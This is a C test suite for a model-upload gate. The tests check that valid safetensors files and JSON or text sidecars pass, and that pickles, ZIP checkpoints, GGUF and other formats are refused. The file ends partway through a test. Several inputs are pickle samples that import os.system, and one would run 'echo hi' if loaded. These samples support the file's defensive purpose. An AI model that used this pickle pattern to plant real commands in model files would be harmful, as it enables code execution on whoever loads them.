#include "st_gate.h"
#include "st_code.h"

#include <math.h>
#include <stdlib.h>

#include "../test.h"

/* ---- building inputs ---- */

typedef struct input {
    uint8_t *bytes;
    size_t len;
} input;

static input make_raw(const void *bytes, size_t len)
{
    input in = {malloc(len ? len : 1), len};
    if (len)
        memcpy(in.bytes, bytes, len);
    return in;
}

/* 8-byte LE length of header, the header, then data */
static input make_st_n(const char *header, size_t header_len, const void *data, size_t data_len)
{
    input in = {malloc(8 + header_len + data_len + 1), 8 + header_len + data_len};
    for (int i = 0; i < 8; i++)
        in.bytes[i] = (uint8_t)((uint64_t)header_len >> (8 * i));
    memcpy(in.bytes + 8, header, header_len);
    if (data_len)
        memcpy(in.bytes + 8 + header_len, data, data_len);
    return in;
}

static input make_st(const char *header, const void *data, size_t data_len)
{
    return make_st_n(header, strlen(header), data, data_len);
}

/* a length prefix of any value followed by body bytes */
static input make_prefixed(uint64_t n, const char *body)
{
    size_t body_len = strlen(body);
    input in = {malloc(8 + body_len + 1), 8 + body_len};
    for (int i = 0; i < 8; i++)
        in.bytes[i] = (uint8_t)(n >> (8 * i));
    memcpy(in.bytes + 8, body, body_len);
    return in;
}

static void input_free(input *in)
{
    free(in->bytes);
    in->bytes = NULL;
}

static const float f32_data[6] = {1.0f, -2.0f, 0.5f, 3.0f, 4.0f, 5.0f};
#define ONE_F32 "{\"w\":{\"dtype\":\"F32\",\"shape\":[2,3],\"data_offsets\":[0,24]}}"
#define TWO_TENSORS                                                                                \
    "{\"__metadata__\":{\"format\":\"pt\"},"                                                       \
    "\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"                              \
    "\"b\":{\"dtype\":\"F32\",\"shape\":[4],\"data_offsets\":[8,24]}}"

static void put_le(uint8_t *p, uint64_t v, int bytes)
{
    for (int i = 0; i < bytes; i++)
        p[i] = (uint8_t)(v >> (8 * i));
}

static uint32_t crc32_of(const uint8_t *p, size_t len)
{
    uint32_t crc = 0xffffffffu;
    for (size_t i = 0; i < len; i++) {
        crc ^= p[i];
        for (int k = 0; k < 8; k++)
            crc = (crc >> 1) ^ (0xedb88320u & (0u - (crc & 1)));
    }
    return ~crc;
}

/* prefix_len junk bytes, then a stored ZIP with one member `name` holding `data`
 * (offsets relative to the ZIP's own start, as `cat junk x.zip` leaves them) */
static input make_prefixed_zip(size_t prefix_len, bool text_prefix, const char *name,
                               const void *data, size_t len)
{
    size_t name_len = strlen(name);
    size_t local = 30 + name_len + len, central = 46 + name_len,
           total = prefix_len + local + central + 22;
    input in = {calloc(1, total), total};
    for (size_t i = 0; i < prefix_len; i++)
        in.bytes[i] = text_prefix ? (uint8_t)('a' + (i % 26)) : (uint8_t)(i * 7 + 1);
    uint8_t *z = in.bytes + prefix_len;
    uint32_t crc = crc32_of(data, len);
    memcpy(z, "PK\3\4", 4);
    put_le(z + 4, 20, 2);
    put_le(z + 14, crc, 4);
    put_le(z + 18, len, 4);
    put_le(z + 22, len, 4);
    put_le(z + 26, name_len, 2);
    memcpy(z + 30, name, name_len);
    memcpy(z + 30 + name_len, data, len);
    uint8_t *c = z + local;
    memcpy(c, "PK\1\2", 4);
    put_le(c + 4, 20, 2);
    put_le(c + 6, 20, 2);
    put_le(c + 16, crc, 4);
    put_le(c + 20, len, 4);
    put_le(c + 24, len, 4);
    put_le(c + 28, name_len, 2);
    memcpy(c + 46, name, name_len);
    uint8_t *e = c + central;
    memcpy(e, "PK\5\6", 4);
    put_le(e + 8, 1, 2);
    put_le(e + 10, 1, 2);
    put_le(e + 12, central, 4);
    put_le(e + 16, local, 4);
    return in;
}

/* ---- running the gate ---- */

typedef enum feeding { WHOLE, BYTE_BY_BYTE, RANDOM_CHUNKS } feeding;

static uint32_t rng_state = 12345;
static uint32_t rng_next(void)
{
    rng_state = rng_state * 1664525u + 1013904223u;
    return rng_state >> 8;
}

/* Runs the gate over in; returns the final status, fills out. */
static st_gate_status run_gate(const st_gate_config *config, const input *in, bool declare,
                               feeding how, st_verdict *out)
{
    st_gate *gate = st_gate_new(config, declare ? in->len : ST_FILE_SIZE_UNKNOWN);
    if (gate == NULL) {
        memset(out, 0, sizeof *out);
        return ST_GATE_REFUSED;
    }
    size_t pos = 0;
    st_gate_status status = ST_GATE_CONTINUE;
    while (pos < in->len && status == ST_GATE_CONTINUE) {
        size_t n = in->len - pos;
        if (how == BYTE_BY_BYTE)
            n = 1;
        else if (how == RANDOM_CHUNKS) {
            size_t r = 1 + rng_next() % 97;
            if (rng_next() % 8 == 0)
                r = 1 + rng_next() % 70000;
            n = r < n ? r : n;
        }
        status = st_gate_feed(gate, in->bytes + pos, n);
        pos += n;
    }
    status = st_gate_finish(gate);
    st_gate_verdict(gate, out);
    CHECK(!st_gate_out_of_memory(gate));
    st_gate_free(gate);
    return status;
}

static bool verdicts_equal(const st_verdict *a, const st_verdict *b)
{
    return a->valid == b->valid && a->format == b->format && a->error.reason == b->error.reason &&
           a->error.offset == b->error.offset && strcmp(a->error.tensor, b->error.tensor) == 0 &&
           strcmp(a->error.detail, b->error.detail) == 0;
}

static void print_verdict(const char *what, const st_verdict *v)
{
    fprintf(stderr, "  %s: valid=%d format=%s reason=%s offset=%llu tensor='%s' detail='%s'\n",
            what, v->valid, st_format_name(v->format), st_reason_name(v->error.reason),
            (unsigned long long)v->error.offset, v->error.tensor, v->error.detail);
}

/* The verdict of in, checked to be the same for every feeding and (when
 * compare_declared) with the size declared or not. */
static st_verdict judge(const st_gate_config *config, const input *in, bool compare_declared)
{
    st_verdict whole, other;
    st_gate_status status = run_gate(config, in, true, WHOLE, &whole);
    CHECK(status == (whole.valid ? ST_GATE_ACCEPTED : ST_GATE_REFUSED));
    const feeding hows[] = {BYTE_BY_BYTE, RANDOM_CHUNKS, RANDOM_CHUNKS, RANDOM_CHUNKS};
    for (size_t declare = 0; declare < 2; declare++) {
        for (size_t h = 0; h < sizeof hows / sizeof hows[0]; h++) {
            if (hows[h] == BYTE_BY_BYTE && in->len > 300000)
                continue; /* keep big inputs fast */
            run_gate(config, in, declare, hows[h], &other);
            bool same = declare || compare_declared ? verdicts_equal(&whole, &other)
                                                    : whole.valid == other.valid &&
                                                          whole.error.reason == other.error.reason;
            CHECK(same);
            if (!same) {
                print_verdict("whole", &whole);
                print_verdict(declare ? "chunked" : "chunked, size unknown", &other);
            }
        }
    }
    st_verdict buffer;
    st_gate_check_buffer(config, in->bytes, in->len, &buffer);
    bool same = buffer.valid == whole.valid && buffer.error.reason == whole.error.reason &&
                buffer.format == whole.format;
    CHECK(same);
    if (!same) {
        print_verdict("whole", &whole);
        print_verdict("check_buffer", &buffer);
    }
    return whole;
}

static st_gate_config config_of(st_gate_kind kind)
{
    st_gate_config config;
    memset(&config, 0, sizeof config);
    config.kind = kind;
    return config;
}

/* judge() and check valid/format/reason; consumes in */
static st_verdict expect(const st_gate_config *config, input in, bool valid, st_format format,
                         st_reason reason)
{
    /* the parser words coverage errors found against a declared size; the gate words
     * those it finds at the end of an undeclared stream: compare their reasons only */
    bool coverage = reason == ST_DATA_TRUNCATED || reason == ST_DATA_TRAILING;
    st_verdict v = judge(config, &in, !coverage);
    CHECK(v.valid == valid);
    CHECK_STR(st_format_name(v.format), st_format_name(format));
    CHECK_STR(st_reason_name(v.error.reason), st_reason_name(reason));
    if (v.valid != valid || v.format != format || v.error.reason != reason)
        print_verdict("got", &v);
    input_free(&in);
    return v;
}

/* ---- tests ---- */

TEST(valid_files_pass_in_every_feeding)
{
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    expect(&c, make_st(ONE_F32, f32_data, 24), true, ST_FORMAT_SAFETENSORS, ST_OK);
    expect(&c, make_st(TWO_TENSORS, f32_data, 24), true, ST_FORMAT_SAFETENSORS, ST_OK);
    expect(&c, make_st("{}", NULL, 0), true, ST_FORMAT_SAFETENSORS, ST_OK);
    expect(&c, make_st("{\"__metadata__\":{}}    ", NULL, 0), true, ST_FORMAT_SAFETENSORS, ST_OK);
    expect(&c,
           make_st("{\"s\":{\"dtype\":\"F32\",\"shape\":[],\"data_offsets\":[0,4]}}", f32_data, 4),
           true, ST_FORMAT_SAFETENSORS, ST_OK);
    expect(&c,
           make_st("{\"z\":{\"dtype\":\"F16\",\"shape\":[0,5],\"data_offsets\":[0,0]}}", NULL, 0),
           true, ST_FORMAT_SAFETENSORS, ST_OK);

    /* the gate exposes the parsed table and the stats after acceptance */
    input in = make_st(TWO_TENSORS, f32_data, 24);
    st_gate *gate = st_gate_new(&c, in.len);
    CHECK(gate != NULL);
    CHECK(st_gate_feed(gate, in.bytes, in.len) == ST_GATE_CONTINUE);
    CHECK(st_gate_finish(gate) == ST_GATE_ACCEPTED);
    const st_file *file = st_gate_file(gate);
    CHECK(file != NULL && st_gate_stats(gate) != NULL);
    if (file != NULL) {
        CHECK_EQ_U64(file->tensor_count, 2);
        CHECK_STR(st_file_metadata(file, "format"), "pt");
    }
    CHECK_EQ_U64(st_gate_bytes_seen(gate), in.len);
    st_gate_free(gate);
    input_free(&in);
}

TEST(length_bytes_spelling_a_zip_magic_stay_safetensors)
{
    /* N = 67,324,752 is PK\3\4\0\0\0\0: a header of exactly that many bytes */
    const uint64_t n = 67324752;
    const char *json = "{\"w\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}";
    size_t json_len = strlen(json);
    input in = {malloc(8 + n + 8), 8 + n + 8};
    for (int i = 0; i < 8; i++)
        in.bytes[i] = (uint8_t)(n >> (8 * i));
    CHECK(memcmp(in.bytes, "PK\3\4\0\0\0\0", 8) == 0);
    memcpy(in.bytes + 8, json, json_len);
    memset(in.bytes + 8 + json_len, ' ', n - json_len);
    memcpy(in.bytes + 8 + n, f32_data, 8);
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    st_verdict v;
    CHECK(run_gate(&c, &in, true, WHOLE, &v) == ST_GATE_ACCEPTED);
    CHECK(v.valid && v.format == ST_FORMAT_SAFETENSORS);
    CHECK(run_gate(&c, &in, false, RANDOM_CHUNKS, &v) == ST_GATE_ACCEPTED);
    st_gate_check_buffer(&c, in.bytes, in.len, &v);
    CHECK(v.valid);
    c.kind = ST_GATE_SIDECAR;
    CHECK(run_gate(&c, &in, true, WHOLE, &v) == ST_GATE_ACCEPTED);
    CHECK(v.format == ST_FORMAT_SAFETENSORS);
    /* the same prefix with a header that breaks is a header error, not a zip */
    in.bytes[8 + json_len - 1] = ' ';
    c.kind = ST_GATE_SAFETENSORS;
    run_gate(&c, &in, true, WHOLE, &v);
    CHECK(!v.valid && v.format == ST_FORMAT_SAFETENSORS && v.error.reason != ST_REFUSED_FORMAT);
    input_free(&in);
}

TEST(other_formats_are_refused_by_format)
{
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    /* pickle protocol 2 and 4 (what pickle.dumps writes), protocol 0 text */
    static const uint8_t p2[] = {0x80, 0x02, '}', 'q', 0x00, '(', 'X',  0x01, 0x00,
                                 0x00, 0x00, 'a', 'q', 0x01, 'K', 0x01, 'u',  '.'};
    expect(&c, make_raw(p2, sizeof p2), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    static const uint8_t p4[] = {0x80, 0x04, 0x95, 0x0b, 0,   0,    0,   0,    0,   0,  0,
                                 '}',  0x94, 0x8c, 0x01, 'a', 0x94, 'K', 0x01, 's', '.'};
    expect(&c, make_raw(p4, sizeof p4), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    const char *p0 = "(dp0\nVa\np1\ncos\nsystem\np2\ns.";
    expect(&c, make_raw(p0, strlen(p0)), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    /* a protocol-0 pickle of plain data is text (issue 23: nothing in it imports or
     * calls), refused here as text */
    const char *p0_data = "(dp0\nVa\np1\nI1\ns.";
    expect(&c, make_raw(p0_data, strlen(p0_data)), false, ST_FORMAT_TEXT, ST_REFUSED_FORMAT);
    /* a protocol-0 pickle whose byte 8 is `{` (rule 2 keeps it out of the header path) */
    const char *p0_brace = "(dp0\nS'a{x}'\np1\ncos\nsystem\np2\ns.";
    CHECK(p0_brace[8] == '{');
    expect(&c, make_raw(p0_brace, strlen(p0_brace)), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    /* a short pickle (fewer than 8 bytes) is still named; "N." (NONE STOP) is text,
     * data only, and too short for safetensors */
    expect(&c, make_raw("\x80\x02N.", 4), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    expect(&c, make_raw("N.", 2), false, ST_FORMAT_UNKNOWN, ST_FILE_TOO_SMALL);

    /* zip local header (PyTorch zip checkpoints start so), gguf, npy, gzip */
    uint8_t zip[120];
    memset(zip, 0, sizeof zip);
    memcpy(zip, "PK\3\4\x14\0\0\0\0\0", 10);
    memcpy(zip + 30, "archive/data.pkl", 16);
    expect(&c, make_raw(zip, sizeof zip), false, ST_FORMAT_ZIP, ST_REFUSED_FORMAT);
    uint8_t gguf[64];
    memset(gguf, 0, sizeof gguf);
    memcpy(gguf, "GGUF\3\0\0\0", 8);
    gguf[8] = 2;
    expect(&c, make_raw(gguf, sizeof gguf), false, ST_FORMAT_GGUF, ST_REFUSED_FORMAT);
    /* a gguf whose tensor count puts `{` at byte 8: strong format beats rule 3 */
    gguf[8] = '{';
    expect(&c, make_raw(gguf, sizeof gguf), false, ST_FORMAT_GGUF, ST_REFUSED_FORMAT);
    const char npy[] =
        "\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }";
    expect(&c, make_raw(npy, sizeof npy - 1), false, ST_FORMAT_NUMPY, ST_REFUSED_FORMAT);
    static const uint8_t gz[] = {0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0x03, 1, 2, 3, 4};
    expect(&c, make_raw(gz, sizeof gz), false, ST_FORMAT_COMPRESSED, ST_REFUSED_FORMAT);

    /* JSON and text uploaded as weights: refused as such, not as header errors,
     * even with `{` at byte 8 */
    const char *json = "{\"cfg\": {\"hidden\": 16}}";
    CHECK(json[8] == '{');
    expect(&c, make_raw(json, strlen(json)), false, ST_FORMAT_JSON, ST_REFUSED_FORMAT);
    const char *text = "# A model card\n\nSome words.\n";
    expect(&c, make_raw(text, strlen(text)), false, ST_FORMAT_TEXT, ST_REFUSED_FORMAT);

    /* a ZIP behind a junk prefix longer than the head is found from its end: streaming
     * waits for the tail when the head names nothing (judge() compares with
     * st_gate_check_buffer, which has the tail from the start) */
    static const uint8_t pickled[] = {0x80, 0x02, 'N', '.'};
    st_gate_config sidecar = config_of(ST_GATE_SIDECAR);
    for (int text_prefix = 0; text_prefix < 2; text_prefix++) {
        input prefixed =
            make_prefixed_zip(100 * 1024, text_prefix, "archive/data.pkl", pickled, sizeof pickled);
        st_verdict zv = judge(&c, &prefixed, true);
        CHECK(!zv.valid && zv.error.reason == ST_REFUSED_FORMAT);
        CHECK(zv.format == ST_FORMAT_PYTORCH_ZIP || zv.format == ST_FORMAT_ZIP);
        zv = judge(&sidecar, &prefixed, true);
        CHECK(zv.error.reason == ST_REFUSED_FORMAT);
        CHECK(zv.format == ST_FORMAT_PYTORCH_ZIP || zv.format == ST_FORMAT_ZIP);
        input_free(&prefixed);
    }
    /* the same ZIP without a prefix, small: named from the head */
    input prefixed = make_prefixed_zip(0, false, "archive/data.pkl", pickled, sizeof pickled);
    st_verdict zv = judge(&c, &prefixed, true);
    CHECK(zv.format == ST_FORMAT_PYTORCH_ZIP || zv.format == ST_FORMAT_ZIP);
    input_free(&prefixed);
    /* unknown content stays unknown, in every feeding */
    input junk = make_prefixed_zip(200 * 1024, false, "x", "", 0);
    junk.len = 150 * 1024;
    zv = judge(&c, &junk, true);
    CHECK(zv.format == ST_FORMAT_UNKNOWN && zv.error.reason == ST_REFUSED_FORMAT);
    zv = judge(&sidecar, &junk, true);
    CHECK(zv.error.reason == ST_SIDECAR_TEXT_INVALID);
    input_free(&junk);

    /* a big pickle is refused from its head, before its end */
    input big = {malloc(1 << 20), 1 << 20};
    memset(big.bytes, 'K', big.len);
    memcpy(big.bytes, p2, 11);
    st_gate *gate = st_gate_new(&c, big.len);
    CHECK(st_gate_feed(gate, big.bytes, ST_SNIFF_HEAD_MAX) == ST_GATE_REFUSED);
    st_verdict v;
    st_gate_verdict(gate, &v);
    CHECK(v.format == ST_FORMAT_PICKLE && v.error.reason == ST_REFUSED_FORMAT);
    CHECK(st_gate_feed(gate, big.bytes, 100) == ST_GATE_REFUSED);
    CHECK(st_gate_finish(gate) == ST_GATE_REFUSED);
    st_gate_free(gate);
    input_free(&big);
}

TEST(malformed_safetensors_have_precise_reasons)
{
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    /* framing */
    expect(&c, make_raw("\x10\0\0\0", 4), false, ST_FORMAT_UNKNOWN, ST_FILE_TOO_SMALL);
    expect(&c, make_raw("", 0), false, ST_FORMAT_UNKNOWN, ST_FILE_TOO_SMALL);
    expect(&c, make_prefixed(ST_HEADER_SIZE_MAX + 1, "{\"a\":1}"), false, ST_FORMAT_SAFETENSORS,
           ST_HEADER_TOO_LARGE);
    expect(&c, make_prefixed(UINT64_MAX, "{}"), false, ST_FORMAT_SAFETENSORS, ST_HEADER_TOO_LARGE);
    expect(&c, make_prefixed(1ULL << 40, "{  "), false, ST_FORMAT_SAFETENSORS, ST_HEADER_TOO_LARGE);
    expect(&c, make_prefixed(100, "{\"w\":{\"dtype\":\"F32\""), false, ST_FORMAT_SAFETENSORS,
           ST_HEADER_TRUNCATED);
    expect(&c, make_prefixed(5, ""), false, ST_FORMAT_SAFETENSORS, ST_HEADER_TRUNCATED);
    /* a configured lower limit */
    st_gate_config small = c;
    small.limits.max_header_size = 16;
    expect(&small, make_st(ONE_F32, f32_data, 24), false, ST_FORMAT_SAFETENSORS,
           ST_HEADER_TOO_LARGE);

    /* header grammar: whitespace before `{`, other starts, duplicates, bad dtype */
    expect(&c, make_st(" \n{}", NULL, 0), false, ST_FORMAT_SAFETENSORS, ST_HEADER_START);
    expect(&c, make_st("[1,2,3]", NULL, 0), false, ST_FORMAT_SAFETENSORS, ST_HEADER_START);
    expect(&c, make_st("{}x", NULL, 0), false, ST_FORMAT_SAFETENSORS, ST_HEADER_TRAILING_BYTES);
    expect(&c,
           make_st("{\"a\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]},"
                   "\"a\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}",
                   f32_data, 4),
           false, ST_FORMAT_SAFETENSORS, ST_JSON_DUPLICATE_KEY);
    expect(&c,
           make_st("{\"a\":{\"dtype\":\"F99\",\"shape\":[1],\"data_offsets\":[0,4]}}", f32_data, 4),
           false, ST_FORMAT_SAFETENSORS, ST_DTYPE_UNKNOWN);

    /* coverage: trailing and missing data bytes, declared or discovered at the end */
    st_verdict v = judge(&c, &(input){0}, true); /* empty input, once more */
    CHECK(v.error.reason == ST_FILE_TOO_SMALL);
    input trailing = make_st(ONE_F32, f32_data, 24);
    trailing.bytes = realloc(trailing.bytes, trailing.len + 5);
    memcpy(trailing.bytes + trailing.len, "PK\5\6\0", 5);
    trailing.len += 5;
    v = judge(&c, &trailing, false);
    CHECK_STR(st_reason_name(v.error.reason), "data_trailing");
    input_free(&trailing);
    input truncated = make_st(TWO_TENSORS, f32_data, 20);
    v = judge(&c, &truncated, false);
    CHECK_STR(st_reason_name(v.error.reason), "data_truncated");
    /* with the size unknown the gate finds it at the end: offset and tensor named */
    run_gate(&c, &truncated, false, WHOLE, &v);
    CHECK_EQ_U64(v.error.offset, truncated.len);
    CHECK_STR(v.error.tensor, "b");
    input_free(&truncated);
}

TEST(bad_header_is_refused_before_the_body)
{
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    const char *bad =
        "{\"w\":{\"dtype\":\"F99\",\"shape\":[1000000],\"data_offsets\":[0,4000000]}}";
    input in = make_st(bad, NULL, 0);
    /* declared as the full size (header + 4 MB of data), but only the header is fed */
    st_gate *gate = st_gate_new(&c, in.len + 4000000);
    CHECK(st_gate_feed(gate, in.bytes, in.len) == ST_GATE_REFUSED);
    CHECK_EQ_U64(st_gate_bytes_seen(gate), in.len);
    st_verdict v;
    st_gate_verdict(gate, &v);
    CHECK(v.error.reason == ST_DTYPE_UNKNOWN);
    CHECK(st_gate_file(gate) == NULL);
    st_gate_free(gate);
    input_free(&in);

    /* the same, byte by byte: refused at the last header byte */
    in = make_st(bad, NULL, 0);
    gate = st_gate_new(&c, ST_FILE_SIZE_UNKNOWN);
    size_t refused_at = 0;
    for (size_t i = 0; i < in.len; i++) {
        if (st_gate_feed(gate, in.bytes + i, 1) == ST_GATE_REFUSED) {
            refused_at = i + 1;
            break;
        }
    }
    CHECK_EQ_U64(refused_at, in.len);
    st_gate_free(gate);
    input_free(&in);

    /* a declared size that disagrees with the header is refused at the header */
    in = make_st(ONE_F32, f32_data, 24);
    gate = st_gate_new(&c, in.len + 100);
    CHECK(st_gate_feed(gate, in.bytes, in.len - 24) == ST_GATE_REFUSED);
    st_gate_verdict(gate, &v);
    CHECK(v.error.reason == ST_DATA_TRAILING);
    st_gate_free(gate);
    /* too large: refused without the header ever arriving */
    gate = st_gate_new(&c, ST_FILE_SIZE_UNKNOWN);
    input huge = make_prefixed(1ULL << 36, "{");
    huge.bytes = realloc(huge.bytes, ST_SNIFF_HEAD_MAX);
    memset(huge.bytes + huge.len, ' ', ST_SNIFF_HEAD_MAX - huge.len);
    CHECK(st_gate_feed(gate, huge.bytes, ST_SNIFF_HEAD_MAX) == ST_GATE_REFUSED);
    st_gate_verdict(gate, &v);
    CHECK(v.error.reason == ST_HEADER_TOO_LARGE);
    st_gate_free(gate);
    input_free(&huge);
    /* trailing bytes are refused as they arrive */
    gate = st_gate_new(&c, ST_FILE_SIZE_UNKNOWN);
    CHECK(st_gate_feed(gate, in.bytes, in.len) == ST_GATE_CONTINUE);
    CHECK(st_gate_feed(gate, (const uint8_t *)"x", 1) == ST_GATE_REFUSED);
    st_gate_verdict(gate, &v);
    CHECK(v.error.reason == ST_DATA_TRAILING);
    CHECK_EQ_U64(v.error.offset, in.len);
    st_gate_free(gate);
    input_free(&in);
}

TEST(nonfinite_policy)
{
    float data[6] = {1.0f, 2.0f, NAN, INFINITY, -INFINITY, NAN};
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    input in = make_st(TWO_TENSORS, data, 24);
    st_verdict v = judge(&c, &in, true);
    CHECK(v.valid);
    st_gate *gate = st_gate_new(&c, in.len);
    st_gate_feed(gate, in.bytes, in.len);
    CHECK(st_gate_finish(gate) == ST_GATE_ACCEPTED);
    const st_tensor_stats *stats = st_gate_stats(gate);
    const st_file *file = st_gate_file(gate);
    CHECK(stats != NULL && file != NULL);
    if (stats != NULL && file != NULL) {
        CHECK_STR(file->tensors[1].name, "b");
        CHECK_EQ_U64(stats[0].nan + stats[0].inf, 0);
        CHECK_EQ_U64(stats[1].nan, 2);
        CHECK_EQ_U64(stats[1].inf, 2);
    }
    st_gate_free(gate);

    c.refuse_nonfinite = true;
    v = judge(&c, &in, true);
    CHECK(!v.valid);
    CHECK_STR(st_reason_name(v.error.reason), "nonfinite_values");
    CHECK_STR(v.error.tensor, "b");
    CHECK_EQ_U64(v.error.offset, 8 + strlen(TWO_TENSORS) + 8);
    input_free(&in);
    in = make_st(TWO_TENSORS, f32_data, 24);
    v = judge(&c, &in, true);
    CHECK(v.valid);
    input_free(&in);
}

TEST(sidecars)
{
    st_gate_config c = config_of(ST_GATE_SIDECAR);
    const char *config_json = "{\"cfg\": {\"hidden\": 16, \"layers\": [1, 2]}}\n";
    expect(&c, make_raw(config_json, strlen(config_json)), true, ST_FORMAT_JSON, ST_OK);
    const char *array = "  [1, 2, {\"a\": null}]";
    expect(&c, make_raw(array, strlen(array)), true, ST_FORMAT_JSON, ST_OK);
    expect(&c, make_raw("{}", 2), true, ST_FORMAT_JSON, ST_OK);
    const char *dup = "{\"a\": 1, \"a\": 2}";
    st_verdict v =
        expect(&c, make_raw(dup, strlen(dup)), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    CHECK(v.error.detail[0] != '\0');
    expect(&c, make_raw("{\"a\": 1,}", 9), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&c, make_raw("{\"a\": 1} x", 10), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&c, make_raw("{\"a\": \"\\u0000\"}", 15), false, ST_FORMAT_JSON,
           ST_SIDECAR_JSON_INVALID);

    const char *readme = "# Model\n\n[![badge](x.svg)](y) caf\xc3\xa9 \xe2\x82\xac\n";
    expect(&c, make_raw(readme, strlen(readme)), true, ST_FORMAT_TEXT, ST_OK);
    const char *badge_first = "[![badge](x.svg)](y)\n";
    expect(&c, make_raw(badge_first, strlen(badge_first)), true, ST_FORMAT_TEXT, ST_OK);
    const char *jinja = "{% for m in messages %}{{ m['content'] }}{% endfor %}";
    expect(&c, make_raw(jinja, strlen(jinja)), true, ST_FORMAT_TEXT, ST_OK);
    expect(&c, make_raw("", 0), true, ST_FORMAT_TEXT, ST_OK);
    expect(&c, make_raw("merges\n", 7), true, ST_FORMAT_TEXT, ST_OK);
    expect(&c, make_raw("caf\xc3", 4), false, ST_FORMAT_UNKNOWN, ST_SIDECAR_TEXT_INVALID);
    expect(&c, make_raw("abc\xff\xfe def ghi", 12), false, ST_FORMAT_UNKNOWN,
           ST_SIDECAR_TEXT_INVALID);

    /* pickles (protocol 0 is ASCII) and archives are named, not passed as text */
    const char *p0 = "cos\nsystem\n(S'echo hi'\ntR.";
    expect(&c, make_raw(p0, strlen(p0)), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    static const uint8_t p2[] = {0x80, 0x02, '}', 'q', 0x00, '.'};
    expect(&c, make_raw(p2, sizeof p2), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    uint8_t zip[64];
    memset(zip, 0, sizeof zip);
    memcpy(zip, "PK\3\4\x14\0\0\0\0\0", 10);
    expect(&c, make_raw(zip, sizeof zip), false, ST_FORMAT_ZIP, ST_REFUSED_FORMAT);

    /* safetensors stays safetensors, valid or not */
    expect(&c, make_st(ONE_F32, f32_data, 24), true, ST_FORMAT_SAFETENSORS, ST_OK);
    expect(&c, make_st(ONE_F32, f32_data, 20), false, ST_FORMAT_SAFETENSORS, ST_DATA_TRUNCATED);
    expect(&c, make_prefixed(ST_HEADER_SIZE_MAX + 1, "{}"), false, ST_FORMAT_SAFETENSORS,
           ST_HEADER_TOO_LARGE);

    /* size bound: streaming and declared */
    st_gate_config small = c;
    small.sidecar_max_size = 100;
    char text[300];
    memset(text, 'a', sizeof text);
    expect(&small, make_raw(text, 100), true, ST_FORMAT_TEXT, ST_OK);
    v = expect(&small, make_raw(text, 101), false, ST_FORMAT_TEXT, ST_SIDECAR_TOO_LARGE);
    CHECK_EQ_U64(v.error.offset, 100);
    text[0] = '{';
    text[1] = '"';
    expect(&small, make_raw(text, 300), false, ST_FORMAT_JSON, ST_SIDECAR_TOO_LARGE);
    /* the default bound is 16 MiB */
    input big = {malloc((16u << 20) + 1), (16u << 20) + 1};
    memset(big.bytes, 'b', big.len);
    st_verdict bv;
    CHECK(run_gate(&c, &big, false, WHOLE, &bv) == ST_GATE_REFUSED);
    CHECK(bv.error.reason == ST_SIDECAR_TOO_LARGE);
    big.len--;
    CHECK(run_gate(&c, &big, true, WHOLE, &bv) == ST_GATE_ACCEPTED);
    input_free(&big);
    /* declared too large: refused from the head */
    st_gate *gate = st_gate_new(&small, 5000);
    CHECK(st_gate_feed(gate, (const uint8_t *)text + 2, 100) == ST_GATE_REFUSED);
    st_gate_free(gate);
}

/* Many inputs, including every prefix of a valid file and random corruptions of
 * it: each verdict must be the same in every feeding. */
TEST(feeding_never_changes_the_verdict)
{
    st_gate_config configs[3] = {config_of(ST_GATE_SAFETENSORS), config_of(ST_GATE_SIDECAR),
                                 config_of(ST_GATE_SAFETENSORS)};
    configs[2].refuse_nonfinite = true;
    configs[2].limits.max_header_size = 64;
    float data[6] = {1.0f, NAN, 3.0f, 4.0f, INFINITY, 6.0f};
    input base = make_st(TWO_TENSORS, data, 24);
    size_t valid_count = 0;
    for (size_t k = 0; k < 3; k++) {
        for (size_t cut = 0; cut <= base.len; cut++) {
            input prefix = {base.bytes, cut};
            st_verdict v = judge(&configs[k], &prefix, false);
            valid_count += v.valid && v.format == ST_FORMAT_SAFETENSORS;
        }
        for (int round = 0; round < 150; round++) {
            input mutated = make_raw(base.bytes, base.len);
            int flips = 1 + (int)(rng_next() % 3);
            for (int f = 0; f < flips; f++)
                mutated.bytes[rng_next() % mutated.len] = (uint8_t)rng_next();
            judge(&configs[k], &mutated, true);
            input_free(&mutated);
        }
    }
    /* the whole file passes in the first two configs, nowhere else among the prefixes */
    CHECK_EQ_U64(valid_count, 2);
    input_free(&base);
}

/* F12: a *.json sidecar holds strict JSON (one object or array, no BOM, numbers that
 * fit a double, nothing after it) or is refused; other names judge by content. */
TEST(json_sidecars_are_strict)
{
    CHECK(st_gate_sidecar_kind("config.json") == ST_GATE_SIDECAR_JSON);
    CHECK(st_gate_sidecar_kind("sub/tokenizer.JSON") == ST_GATE_SIDECAR_JSON);
    CHECK(st_gate_sidecar_kind("README.md") == ST_GATE_SIDECAR);
    CHECK(st_gate_sidecar_kind("json") == ST_GATE_SIDECAR);
    CHECK(st_gate_sidecar_kind("x.jsonl") == ST_GATE_SIDECAR);
    CHECK(st_gate_sidecar_kind(".json") == ST_GATE_SIDECAR_JSON);

    st_gate_config j = config_of(ST_GATE_SIDECAR_JSON);
    st_gate_config any = config_of(ST_GATE_SIDECAR);
    const char *bom = "\xef\xbb\xbf{\"a\":1}";
